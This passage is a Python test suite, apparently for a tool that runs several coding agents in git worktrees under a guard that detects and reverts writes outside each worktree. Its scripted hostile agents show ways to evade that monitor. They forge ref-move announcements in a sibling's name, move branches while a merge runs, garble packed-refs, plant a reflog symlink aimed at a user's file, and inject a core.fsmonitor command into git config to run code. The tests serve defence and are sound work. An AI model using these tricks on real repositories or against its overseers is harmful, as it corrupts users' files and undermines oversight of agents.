        assert git(repo, "show", f"{target}:a.txt") == "a"
    assert status_json(repo)["slow"]["state"] == "done"
    assert outside_writes(repo) == []
    assert not list((repo / ".git" / "swarm" / "ref-moves").glob("*.json"))


def _finished_run(repo: Path, write_agent: AgentFactory, tasks: list[str]) -> str:
    """A run whose *tasks* each wrote `<task>.txt` and are done; its id."""
    writer = write_agent(
        "import os, pathlib\n"
        "pathlib.Path(os.environ['SWARM_TASK_ID'] + '.txt').write_text('work\\n')\n"
    )
    text = "".join(f'[[task]]\nid = "{t}"\nprompt = "p"\n' for t in tasks)
    assert swarm(repo, "run", manifest(repo, text), "--agent", " ".join(writer)).returncode == 0
    run_id: str = json.loads(swarm(repo, "status", "--json").stdout)["run_id"]
    return run_id


# An agent that runs swarm's own command on your checkout (not its worktree) once the innocent
# task runs, naming that command's process for it (its output in `said`).
RUN_SWARM_ON_THE_CHECKOUT = r"""
import os, pathlib, subprocess, sys, time
ctrl, repo, args = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3:]
pathlib.Path('hostile.txt').write_text('hostile\n')
deadline = time.time() + 60
while time.time() < deadline and not (ctrl / 'started').exists():
    time.sleep(0.05)
with (ctrl / 'said').open('w') as said:
    command = subprocess.Popen([sys.executable, '-m', 'worktree_swarm.cli', *args], cwd=repo,
                               stdout=said, stderr=said, stdin=subprocess.DEVNULL)
    (ctrl / 'pid.tmp').write_text(str(command.pid))
    os.replace(ctrl / 'pid.tmp', ctrl / 'pid')
    command.wait()
"""

# Says it runs, waits until the other agent's swarm command has ended (it may be stopped with
# that agent), then does its own work.
WAIT_FOR_THE_OTHER = r"""
import pathlib, sys, time
import psutil
ctrl = pathlib.Path(sys.argv[1])
(ctrl / 'started').touch()
deadline = time.time() + 90
while time.time() < deadline and not (ctrl / 'pid').exists():
    time.sleep(0.05)
try:
    psutil.Process(int((ctrl / 'pid').read_text())).wait(timeout=max(0, deadline - time.time()))
except (psutil.Error, OSError):
    pass  # gone already
pathlib.Path('innocent.txt').write_text('innocent\n')
"""


@pytest.mark.long
@pytest.mark.parametrize("command", ["merge", "clean"])
def test_swarm_run_by_an_agent_on_the_checkout_fails_that_agent_alone(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, command: str
) -> None:
    earlier = _finished_run(repo, write_agent, ["a"])
    ctrl = tmp_path / "ctrl"
    ctrl.mkdir()
    args, moved = {
        "merge": (["merge", "--run", earlier], f"swarm/integration-{earlier} moved"),
        "clean": (["clean", "--run", earlier, "--yes", "--force"], "swarm/a moved"),
    }[command]
    hostile = [*write_agent(RUN_SWARM_ON_THE_CHECKOUT), str(ctrl), str(repo), *args]
    innocent = [*write_agent(WAIT_FOR_THE_OTHER), str(ctrl)]
    path = manifest(
        repo,
        f'[[task]]\nid = "hostile"\nprompt = "p"\nagent = {argv_toml(hostile)}\n'
        f'[[task]]\nid = "innocent"\nprompt = "p"\nagent = {argv_toml(innocent)}\n',
    )
    before = repo_state(repo)
    tip_a = git(repo, "rev-parse", "swarm/a")
    swarm(repo, "run", path, "--jobs", "2")
    rows = status_json(repo)
    said = (ctrl / "said").read_text()
    assert rows["innocent"]["state"] == "done", (rows["innocent"]["reason"], said)
    assert rows["hostile"]["state"] == "failed", rows["hostile"]
    assert f"wrote outside its worktree: {moved}" in str(rows["hostile"]["reason"])
    assert repo_state(repo) == before
    # The earlier run's branch is as it was, and no integration branch stays.
    branches = git(repo, "for-each-ref", "--format=%(refname) %(objectname)", "refs/heads/swarm/")
    assert [b for b in branches.splitlines() if "/hostile " not in b and "/innocent " not in b] == [
        f"refs/heads/swarm/a {tip_a}"
    ]
    if command == "merge":  # its worktree stays, for `swarm clean` to save aside and remove
        plan = swarm(repo, "clean", "--run", earlier).stdout
        assert "save what it holds aside (its branch is gone), then remove it" in plan, plan


# The merge's checks: the first (the target before any merge) passes at once, the next ones
# say they run, then wait for the go file.
CHECK_THEN_WAIT = """
import pathlib, sys, time
ctrl = pathlib.Path(sys.argv[1])
if not (ctrl / 'first').exists():
    (ctrl / 'first').touch()
    sys.exit(0)
(ctrl / 'checking').touch()
while not (ctrl / 'go').exists():
    time.sleep(0.05)
"""


@pytest.mark.long
def test_a_run_started_while_a_merge_is_half_way_is_blamed_for_none_of_it(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    earlier = _finished_run(repo, write_agent, ["a", "b"])
    check = " ".join([*write_agent(CHECK_THEN_WAIT), str(tmp_path)])
    merging = swarm_bg(repo, "merge", "--run", earlier, "--check", check)
    flag = tmp_path / "flag"
    procs = [merging]
    try:
        # One task merged, its check running: the integration branch has moved once.
        wait_for((tmp_path / "checking").exists, what="the merge's check after its first merge")
        second = manifest(
            repo,
            '[[task]]\nid = "slow"\nprompt = "p"\n'
            f"agent = {argv_toml([*write_agent(WAIT_FOR_FLAG), str(flag)])}\n",
        )
        running = swarm_bg(repo, "run", second)  # its guard's baseline: the merge half-way
        procs.append(running)
        wait_for(
            (repo.parent / "repo.swarm" / "slow" / "slow.txt").exists,
            what="the slow agent to run",
        )
        (tmp_path / "go").touch()
        assert merging.wait(timeout=120) == 0
        flag.write_text("go\n")
        assert running.wait(timeout=120) == 0
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
    integration = f"swarm/integration-{earlier}"
    assert (
        git(repo, "show", f"{integration}:a.txt"),
        git(repo, "show", f"{integration}:b.txt"),
    ) == (
        "work",
        "work",
    )
    assert status_json(repo)["slow"]["state"] == "done"
    assert outside_writes(repo) == []


# Waits until the merge's checks run, then puts a commit of its own on the integration branch.
MOVE_THE_MERGES_BRANCH = r"""
import pathlib, subprocess, sys, time
ctrl = pathlib.Path(sys.argv[1])
pathlib.Path('slow.txt').write_text('slow\n')
while not (ctrl / 'checking').exists():
    time.sleep(0.05)
def git(*args, given=None):
    return subprocess.run(['git', *args], input=given, capture_output=True, text=True,
                          check=True).stdout.strip()
ref = next(r for r in git('for-each-ref', '--format=%(refname)', 'refs/heads/swarm/').split()
           if '/integration-' in r)
tip = git('rev-parse', ref)
blob = git('hash-object', '-w', '--stdin', given='planted\n')
tree = git('mktree', given=git('ls-tree', tip) + f'\n100644 blob {blob}\tevil.txt\n')
git('update-ref', ref, git('commit-tree', tree, '-p', tip, '-m', 'looks like a merge step'))
(ctrl / 'go').touch()
"""


@pytest.mark.long
def test_a_commit_an_agent_puts_on_the_branch_a_merge_checks_never_stays(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    earlier = _finished_run(repo, write_agent, ["a"])
    check = " ".join([*write_agent(CHECK_THEN_WAIT), str(tmp_path)])
    mover = argv_toml([*write_agent(MOVE_THE_MERGES_BRANCH), str(tmp_path)])
    second = manifest(repo, f'[[task]]\nid = "evil"\nprompt = "p"\nagent = {mover}\n')
    running = swarm_bg(repo, "run", second)
    merging = swarm_bg(repo, "merge", "--run", earlier, "--check", check)
    try:
        assert merging.wait(timeout=120) == 1
        running.wait(timeout=120)
    finally:
        for proc in (running, merging):
            if proc.poll() is None:
                proc.kill()
    integration = f"swarm/integration-{earlier}"
    files = git(repo, "ls-tree", "--name-only", integration).split()
    assert "evil.txt" not in files  # the merge reported none of it as its own
    with sqlite3.connect(repo / ".git" / "swarm" / "state.db") as db:
        (result, detail) = db.execute(
            "SELECT merge_result, merge_detail FROM tasks WHERE run_id = ? AND task_id = 'a'",
            (earlier,),
        ).fetchone()
    assert result == "failed"
    assert "while its checks ran, not by swarm; merge undone" in detail


# -- a scan that fails -------------------------------------------------------------------------

# Makes every ref listing fail (git refuses a garbled packed-refs), waits until the guard has
# logged that, then repairs it so that the run can end.
GARBLE_PACKED_REFS = """
import pathlib, subprocess, time
pathlib.Path('work.txt').write_text('own work\\n')
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
packed = common / 'packed-refs'
before = packed.read_bytes() if packed.exists() else None
packed.write_bytes((before or b'') + b'garbage line\\n')
deadline = time.time() + 30
def logged():
    return any('refs: failed' in log.read_text()
               for log in (common / 'swarm' / 'runs').glob('*/guard/guard.log'))
while time.time() < deadline and not logged():
    time.sleep(0.05)
if before is None:
    packed.unlink()
else:
    packed.write_bytes(before)
"""


def test_a_scan_that_fails_is_logged_and_shown_in_status_and_report(
    repo: Path, write_agent: AgentFactory
) -> None:
    out = run_one(repo, write_agent(GARBLE_PACKED_REFS), sandbox=False)
    assert "guard: refs scan failed: " in out.stdout
    payload = json.loads(swarm(repo, "status", "--json").stdout)
    refs = [e for e in payload["guard_errors"] if e["job"] == "refs"]
    assert refs, payload["guard_errors"]
    assert "unexpected line in" in str(refs[0]["reason"])
    assert "guard: refs scan failed: " in swarm(repo, "status").stdout
    report = swarm(repo, "report").stdout
    assert "guard scans that failed" in report
    assert "refs: " in report
    log = next((repo / ".git" / "swarm" / "runs").glob("*/guard/guard.log")).read_text()
    assert "refs: scanned again" in log  # and it recovered


# An agent that stashes its own work to look at the clean tree, then pops it: refs/stash is
# shared with the user, but only a stash left behind after the attempt is a write.
STASH_AND_POP = """
import pathlib, subprocess, time
pathlib.Path('work.txt').write_text('own work\\n')
subprocess.run(['git', 'add', 'work.txt'], check=True)
subprocess.run(['git', 'stash', '-q'], check=True)
time.sleep(2.5)  # several guard scans see the stash
subprocess.run(['git', 'stash', 'pop', '-q'], check=True)
"""


GC_AFTER_COMMIT = """
import pathlib, subprocess
pathlib.Path('work.txt').write_text('own work\\n')
subprocess.run(['git', 'add', 'work.txt'], check=True)
subprocess.run(['git', 'commit', '-qm', 'work'], check=True)
# What `gc --auto` does after a commit that left many loose objects (vendoring a library):
# repack, pack the refs, and write info/refs for dumb-HTTP clients.
subprocess.run(['git', 'gc', '--quiet'], check=False)
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
def test_gits_own_gc_after_an_agents_commit_is_no_outside_write(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    def state() -> dict[str, object]:
        found = repo_state(repo)
        found["git"] = {k: v for k, v in git_files(repo / ".git").items() if k != "info/refs"}
        return found

    before = state()
    out = run_one(repo, write_agent(GC_AFTER_COMMIT), sandbox=sandbox, task="vendor")
    assert out.returncode == 0, out.stdout + out.stderr
    assert status_json(repo)["vendor"]["state"] == "done"
    assert git(repo, "show", "swarm/vendor:work.txt") == "own work"
    assert outside_writes(repo) == []
    assert sandbox or (repo / ".git" / "info" / "refs").is_file()  # gc wrote it (not in a box)
    assert state() == before


@pytest.mark.slow  # long: runs in `scripts/check --slow` (CI runs both)
@pytest.mark.parametrize("sandbox", MODES)
def test_an_agent_may_stash_and_pop_in_its_own_worktree(
    repo: Path, write_agent: AgentFactory, sandbox: bool
) -> None:
    before = repo_state(repo)
    out = run_one(repo, write_agent(STASH_AND_POP), sandbox=sandbox, task="tidy")
    assert out.returncode == 0, out.stdout + out.stderr
    assert status_json(repo)["tidy"]["state"] == "done"
    assert git(repo, "show", "swarm/tidy:work.txt") == "own work"
    assert outside_writes(repo) == []
    assert repo_state(repo) == before


def test_the_guard_accepts_exactly_the_moves_swarm_names(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    named, other, third = (
        git(repo, "commit-tree", tree, "-p", tip, "-m", m) for m in ("named", "other", "third")
    )
    opened = open_repo(repo)
    guard = Guard(opened, work_dir=tmp_path / "g", restore=True)
    guard.start()
    agent = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    manager = filelock.FileLock(opened.state_dir / "manager.lock", thread_local=False)
    manager.acquire()  # a run is alive: the writer waits for the guard's verdict
    try:
        guard.agent_started("rogue", identity_of(agent.pid))
        guard.watch_in_background()
        with moving_refs(opened, ["refs/heads/stable"]) as moves:
            git(repo, "update-ref", "refs/heads/stable", named)
            moves.moved("refs/heads/stable", named)
        with moving_refs(opened, ["refs/heads/stable"]) as moves:
            git(repo, "update-ref", "refs/heads/stable", third)  # not what it says
            moves.moved("refs/heads/stable", other)
        guard.close()
        found = guard.scan()
    finally:
        manager.release()
        agent.kill()
        agent.wait()
    # The named moves are swarm's (whether the guard saw the ref between them or not); the
    # ref found elsewhere is the agent's doing, undone back to where swarm said it put it.
    assert [(v.refs, v.suspects) for v in [*guard.drain(), *found][:1]] == [
        ((("refs/heads/stable", other, third),), ("rogue",))
    ]
    assert git(repo, "rev-parse", "stable") == other
    assert not list((opened.state_dir / "ref-moves").iterdir())


# An agent's own announcement of a move of `stable` (done, held open: its writer waits), and
# the move it then makes: the one it named, or another.
ANNOUNCE_AND_MOVE = r"""
import json, pathlib, subprocess, sys, time
import psutil
from worktree_swarm.infra import starts
repo, ctrl = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
old, said, made = sys.argv[3:6]
deadline = time.time() + 60
while time.time() < deadline and not (ctrl / 'go').exists():
    time.sleep(0.05)
me = psutil.Process()
where = repo / '.git' / 'swarm' / 'ref-moves'
where.mkdir(parents=True, exist_ok=True)
with (where / f'{me.pid}-own.json').open('w') as held:
    held.write(json.dumps({'pid': me.pid, 'started': starts.of(me), 'done': True,
                           'moves': [{'ref': 'refs/heads/stable', 'old': old, 'new': said}]}))
    held.flush()
    subprocess.run(['git', '-C', str(repo), 'update-ref', 'refs/heads/stable', made, old],
                   check=True)
    (ctrl / 'ready').touch()
    while time.time() < deadline and not (ctrl / 'stop').exists():
        time.sleep(0.05)
"""


@pytest.mark.parametrize("as_named", [True, False], ids=["as-named", "elsewhere"])
def test_moves_an_agent_announced_are_blamed_on_it_alone_only_as_it_named_them(
    tmp_path: Path, as_named: bool
) -> None:
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    named, rogue = (git(repo, "commit-tree", tree, "-p", tip, "-m", m) for m in ("n", "r"))
    made = named if as_named else rogue
    opened = open_repo(repo)
    guard = Guard(opened, work_dir=tmp_path / "g", restore=True)
    guard.start()
    ctrl = tmp_path / "ctrl"
    ctrl.mkdir()
    script = tmp_path / "swarm"  # its `swarm merge` on your checkout, as it runs: `swarm ...`
    script.write_text(ANNOUNCE_AND_MOVE)
    announcer = subprocess.Popen(
        [sys.executable, str(script), str(repo), str(ctrl), tip, named, made]
    )
    sibling = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("x", identity_of(announcer.pid))
        guard.agent_started("y", identity_of(sibling.pid))
        (ctrl / "go").touch()
        wait_for((ctrl / "ready").exists, what="the agent's announced move")
        found = guard.scan()
        (ctrl / "stop").touch()
        assert announcer.wait(timeout=60) == 0
    finally:
        for proc in (announcer, sibling):
            proc.kill()
            proc.wait()
    # Refused (an agent's), yet it says whose the move is; a move it did not name is anyone's.
    assert [(v.refs, v.suspects) for v in found] == [
        ((("refs/heads/stable", tip, made),), ("x",) if as_named else ("x", "y"))
    ]
    assert git(repo, "rev-parse", "stable") == tip


# An agent's own announcement naming `stable` (not done, its command at work), held open.
HOLD_ANNOUNCEMENT = r"""
import json, pathlib, sys, time
import psutil
from worktree_swarm.infra import starts
repo, ctrl, old = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2]), sys.argv[3]
me = psutil.Process()
where = repo / '.git' / 'swarm' / 'ref-moves'
where.mkdir(parents=True, exist_ok=True)
with (where / f'{me.pid}-own.json').open('w') as held:
    held.write(json.dumps({'pid': me.pid, 'started': starts.of(me), 'done': False,
                           'moves': [{'ref': 'refs/heads/stable', 'old': old}]}))
    held.flush()
    (ctrl / 'ready').touch()
    time.sleep(120)
"""


@pytest.mark.parametrize("how", ["symlink", "hard-link", "swapped", "renamed"])
def test_an_announcement_forged_in_a_siblings_name_does_not_blame_it_alone(
    tmp_path: Path, how: str
) -> None:
    # Agent x writes an announcement in sibling y's name into a file y holds open (its agent
    # log), then moves `stable` as announced: y's log linked into ref-moves, or y's own
    # announcement (read once, honestly) replaced since, or y's log renamed into ref-moves.
    # The file read is not one y holds open under that name alone, or not one a swarm command
    # of y's wrote: x's move is anyone's, not y's.
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    rogue = git(repo, "commit-tree", tree, "-p", tip, "-m", "rogue")
    guard = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    guard.start()
    where = repo / ".git" / "swarm" / "ref-moves"
    where.mkdir(parents=True, exist_ok=True)
    ctrl = tmp_path / "ctrl"
    ctrl.mkdir()
    log = tmp_path / "y.log"
    script = tmp_path / "hold.py"
    script.write_text(HOLD_ANNOUNCEMENT)
    sleep = [sys.executable, "-c", "import time; time.sleep(120)"]
    with log.open("ab") as out:  # y's agent log, its output: held open by y
        sibling = subprocess.Popen(
            [sys.executable, str(script), str(repo), str(ctrl), tip] if how == "swapped" else sleep,
            stdout=out,
            stderr=out,
        )
    hostile = subprocess.Popen(sleep)
    try:
        guard.agent_started("x", identity_of(hostile.pid))
        guard.agent_started("y", identity_of(sibling.pid))
        if how == "swapped":
            wait_for((ctrl / "ready").exists, what="y's announcement")
        guard.scan()  # y's own announcement, if any, read (refused: an agent's)
        y = psutil.Process(sibling.pid)
        forged = json.dumps({
            "pid": y.pid, "started": starts.of(y), "done": True,
            "moves": [{"ref": "refs/heads/stable", "old": tip, "new": rogue}],
        })  # fmt: skip
        if how == "swapped":
            own = next(where.glob(f"{y.pid}-*.json"))
            aside = tmp_path / "forged.json"
            aside.write_text(forged)
            aside.replace(own)
        elif how == "renamed":  # still y's open file, under this one name
            log.write_text(forged)
            log.rename(where / "forged.json")
        else:
            log.write_text(forged)
            link = where / "forged.json"
            link.symlink_to(log) if how == "symlink" else link.hardlink_to(log)
        guard.scan()
        git(repo, "update-ref", "refs/heads/stable", rogue, tip)  # x's own move
        found = guard.scan()
    finally:
        for proc in (hostile, sibling):
            proc.kill()
            proc.wait()
    assert [(v.refs, v.suspects) for v in found] == [
        ((("refs/heads/stable", tip, rogue),), ("x", "y"))
    ]
    assert git(repo, "rev-parse", "stable") == tip


def test_only_swarms_own_command_line_speaks_for_its_agent(tmp_path: Path) -> None:
    # A program named `swarm` that is not swarm's (`docker swarm`, a script of that name) holds
    # its agent's log open too: a file it holds says nothing of whose moves are whose.
    theirs, ours = tmp_path / "a" / "swarm", tmp_path / "b" / "swarm"
    for script, text in ((theirs, ""), (ours, "from worktree_swarm.cli import main\n")):
        script.parent.mkdir()
        script.write_text(f"{text}import time\ntime.sleep(120)\n")
    procs = [
        subprocess.Popen([sys.executable, str(theirs)]),
        subprocess.Popen([sys.executable, "swarm"], cwd=ours.parent),
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", "swarm"]),
    ]
    try:
        wait_for(lambda: all(len(psutil.Process(p.pid).cmdline()) > 1 for p in procs),
                 what="the programs to start")  # fmt: skip
        said = [announcements.swarm_command(psutil.Process(p.pid)) for p in procs]
    finally:
        for proc in procs:
            proc.kill()
            proc.wait()
    assert said == [False, True, False]


def test_a_move_made_while_an_agents_announced_command_works_is_anyones(
    tmp_path: Path,
) -> None:
    # Agent y's command (its `swarm merge` on your checkout) has announced `stable` and works;
    # meanwhile agent x moves `stable` itself. Until y's command says where it took the ref,
    # the move may be either's: both are suspects, y's announcement does not cover x.
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    rogue = git(repo, "commit-tree", tree, "-p", tip, "-m", "rogue")
    guard = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    guard.start()
    ctrl = tmp_path / "ctrl"
    ctrl.mkdir()
    script = tmp_path / "hold.py"
    script.write_text(HOLD_ANNOUNCEMENT)
    sibling = subprocess.Popen([sys.executable, str(script), str(repo), str(ctrl), tip])
    hostile = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("x", identity_of(hostile.pid))
        guard.agent_started("y", identity_of(sibling.pid))
        wait_for((ctrl / "ready").exists, what="y's announcement")
        guard.scan()  # y's announcement, read (refused: an agent's)
        git(repo, "update-ref", "refs/heads/stable", rogue, tip)  # x's move
        found = guard.scan()
    finally:
        for proc in (hostile, sibling):
            proc.kill()
            proc.wait()
    assert [(v.refs, v.suspects) for v in found] == [
        ((("refs/heads/stable", tip, rogue),), ("x", "y"))
    ]
    assert git(repo, "rev-parse", "stable") == tip


# An agent's command that says it moved `stable` (it did not: it failed), and goes once the
# guard answers, as swarm's own commands do.
SAY_AND_GO = r"""
import json, pathlib, sys, time
import psutil
from worktree_swarm.infra import starts
repo, old, said = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3]
me = psutil.Process()
where = repo / '.git' / 'swarm' / 'ref-moves'
where.mkdir(parents=True, exist_ok=True)
path = where / f'{me.pid}-own.json'
with path.open('w') as held:
    held.write(json.dumps({'pid': me.pid, 'started': starts.of(me), 'done': True,
                           'moves': [{'ref': 'refs/heads/stable', 'old': old, 'new': said}]}))
    held.flush()
    deadline = time.time() + 60
    while time.time() < deadline and not path.with_name(path.name + '.verdict').exists():
        time.sleep(0.05)
"""


def test_an_agents_answered_announcement_covers_no_later_move(tmp_path: Path) -> None:
    # Agent y's command said it moved `stable`, was answered and went, with y. Later agent x
    # makes that very move: it is x's, not y's.
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    named = git(repo, "commit-tree", tree, "-p", tip, "-m", "named")
    guard = Guard(open_repo(repo), work_dir=tmp_path / "g", restore=True)
    guard.start()
    sibling = subprocess.Popen([sys.executable, "-c", SAY_AND_GO, str(repo), tip, named])
    hostile = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("x", identity_of(hostile.pid))
        guard.agent_started("y", identity_of(sibling.pid))
        wait_for(
            lambda: bool(guard.scan()) or sibling.poll() is not None, what="the guard's answer"
        )
        assert sibling.wait(timeout=60) == 0
        guard.agent_ended("y")
        guard.scan()
        git(repo, "update-ref", "refs/heads/stable", named, tip)  # x's move
        found = guard.scan()
    finally:
        for proc in (hostile, sibling):
            proc.kill()
            proc.wait()
    assert [(v.refs, v.suspects) for v in found] == [((("refs/heads/stable", tip, named),), ("x",))]


def test_a_ref_moved_on_right_after_swarm_moved_it_is_put_back_where_swarm_left_it(
    tmp_path: Path,
) -> None:
    # swarm moves `stable` and says so; before the guard has looked, an agent moves it on. The
    # guard sees both at once: swarm's move stays, the agent's is the violation, undone.
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    named, rogue = (git(repo, "commit-tree", tree, "-p", tip, "-m", m) for m in ("n", "r"))
    opened = open_repo(repo)
    guard = Guard(opened, work_dir=tmp_path / "g", restore=True)
    guard.start()
    agent = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    manager = filelock.FileLock(opened.state_dir / "manager.lock", thread_local=False)
    manager.acquire()  # a run is alive: the writer waits for the guard's verdict

    def swarm_moves() -> None:
        with moving_refs(opened, ["refs/heads/stable"]) as moves:
            git(repo, "update-ref", "refs/heads/stable", named)
            moves.moved("refs/heads/stable", named)

    writer = threading.Thread(target=swarm_moves)
    try:
        guard.agent_started("rogue", identity_of(agent.pid))
        writer.start()
        wait_for(lambda: done_announcement(opened.state_dir), what="swarm's announcement")
        git(repo, "update-ref", "refs/heads/stable", rogue)
        found = guard.scan()
        writer.join(timeout=60)
    finally:
        manager.release()
        agent.kill()
        agent.wait()
    assert [(v.refs, v.suspects, v.restored) for v in found] == [
        ((("refs/heads/stable", named, rogue),), ("rogue",), True)
    ]
    assert git(repo, "rev-parse", "stable") == named


def done_announcement(state_dir: Path) -> bool:
    """Whether a finished ref announcement waits for the guard's verdict."""
    for path in (state_dir / "ref-moves").glob("*.json"):
        with contextlib.suppress(OSError, ValueError):
            if json.loads(path.read_bytes())["done"]:
                return True
    return False


LISTENER = """
import sys
from pathlib import Path
from worktree_swarm.guard.attribution import Agents
from worktree_swarm.guard.channel import Channel
with Channel(Path(sys.argv[1]), Agents(), answers=False).listening():
    print("listening", flush=True)
    sys.stdin.read()
"""


def test_a_writer_waits_only_for_a_live_guard_that_holds_its_listening_file(
    tmp_path: Path,
) -> None:
    # A merge killed while its guard listened left its `.listening` file: it is removed. One
    # planted naming a live process that does not hold it (a hostile agent's way to make each
    # clean, doctor and merge wait 30 s) is not waited for. A merge's listening guard is.
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    opened = open_repo(repo)
    where = opened.state_dir / "ref-moves"
    where.mkdir(parents=True)
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone_started = starts.start_time(gone.pid)  # as swarm states a start
    gone.wait()
    sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    listener = subprocess.Popen(
        [sys.executable, "-c", LISTENER, str(opened.state_dir)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert listener.stdout is not None
        assert listener.stdout.readline() == "listening\n"
        dead = where / f"{gone.pid}-0000.listening"
        dead.write_text(json.dumps({"pid": gone.pid, "started": gone_started}))
        planted = where / f"{sleeper.pid}-1111.listening"
        started = starts.start_time(sleeper.pid)
        planted.write_text(json.dumps({"pid": sleeper.pid, "started": started}))
        real = next(p for p in where.glob(f"{listener.pid}-*.listening"))
        done = threading.Event()

        def swarm_moves() -> None:
            with moving_refs(opened, ["refs/heads/stable"]) as moves:
                git(repo, "branch", "-D", "stable")
                moves.moved("refs/heads/stable", None)
            done.set()

        writer = threading.Thread(target=swarm_moves)
        writer.start()
        wait_for(lambda: done_announcement(opened.state_dir), what="swarm's announcement")
        assert not done.is_set()  # the merge's guard has not read it yet
        announcement = next(where.glob("*.json"))
        # What that guard marks when it has read the file (it reads them in its scans).
        heard = real.name.removesuffix(".listening")
        where.joinpath(f"{announcement.name}.heard-{heard}").touch()
        assert done.wait(timeout=25)  # a listener it believed would hold it for 30 s
        writer.join()
        assert not dead.exists()
        assert planted.exists()  # its process lives: not the writer's to judge
        assert real.exists()
    finally:
        sleeper.kill()
        sleeper.wait()
        listener.communicate(timeout=30)  # its stdin closed: it stops listening
    assert not real.exists()  # the guard that stopped listening took its file away


REFLOG_LINK = """
import os, pathlib, subprocess, sys
common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
                        capture_output=True, text=True, check=True).stdout.strip()
log = os.path.join(common, 'logs/refs/heads/swarm/integration-' + os.environ['SWARM_RUN_ID'])
os.makedirs(os.path.dirname(log), exist_ok=True)
os.symlink(sys.argv[1], log)  # the reflog of a branch `swarm merge` will make
pathlib.Path('work.txt').write_text('work\\n')
"""


@pytest.mark.long
def test_swarm_merge_never_writes_through_a_reflog_link_an_agent_planted(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("the user's own file\n")
    run_one(repo, [*write_agent(REFLOG_LINK), str(victim)], sandbox=False, task="t")
    out = swarm(repo, "merge")
    assert out.returncode == 0, out.stdout + out.stderr
    assert victim.read_text() == "the user's own file\n"


# -- a sparse checkout of the user's -----------------------------------------------------------


def sparse_repo(tmp_path: Path) -> Path:
    """A repository whose checkout is sparse: git keeps its settings in ``config.worktree``."""
    repo = make_repo(tmp_path / "repo", {"a/x.txt": "a\n", "b/y.txt": "b\n"})
    git(repo, "sparse-checkout", "set", "a")
    assert (repo / ".git" / "config.worktree").is_file()
    return repo


def test_gits_copy_of_a_sparse_checkouts_settings_is_no_agents_write(
    tmp_path: Path, write_agent: AgentFactory
) -> None:
    # `git worktree add` copies the checkout's `config.worktree` into each new admin dir.
    repo = sparse_repo(tmp_path)
    agent = argv_toml(write_agent("import pathlib; pathlib.Path('t.txt').write_text('w\\n')"))
    tasks = "".join(f'[[task]]\nid = "t{i}"\nprompt = "p"\nagent = {agent}\n' for i in range(4))
    out = swarm(repo, "run", manifest(repo, tasks), "--jobs", "2")
    assert out.returncode == 0, out.stdout + out.stderr
    assert {row["state"] for row in status_json(repo).values()} == {"done"}
    assert outside_writes(repo) == []
    # Each task's worktree is sparse like the checkout it came from.
    assert (repo.parent / "repo.swarm" / "t0" / "a" / "x.txt").is_file()
    assert not (repo.parent / "repo.swarm" / "t0" / "b").exists()


@pytest.mark.long
def test_an_agent_that_plants_config_in_its_own_admin_dir_is_caught_there_too(
    tmp_path: Path, write_agent: AgentFactory
) -> None:
    repo = sparse_repo(tmp_path)
    marker = tmp_path / "planted-code-ran"
    plant = (
        COMMON
        + """
own = pathlib.Path(subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
append(own / 'config.worktree', f'[core]\\n\\tfsmonitor = touch {marker} #\\n')
"""
    )
    before = repo_state(repo)
    run_one(repo, [*write_agent(plant), str(repo), str(marker)], sandbox=False)
    caught_or_impossible(repo, sandbox=False, what="worktrees/bad/config.worktree")
    assert repo_state(repo) == before
    assert not marker.exists()


def test_a_scan_while_swarm_makes_a_worktree_leaves_gits_copy_to_swarm(tmp_path: Path) -> None:
    repo = sparse_repo(tmp_path)
    git(repo, "branch", "w")
    opened = open_repo(repo)
    guard = Guard(opened, work_dir=tmp_path / "g", restore=True)
    guard.start()
    agent = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)"])
    try:
        guard.agent_started("other", identity_of(agent.pid))  # at work while the scans run
        path = tmp_path / "w"
        with guard.provisioning(path):
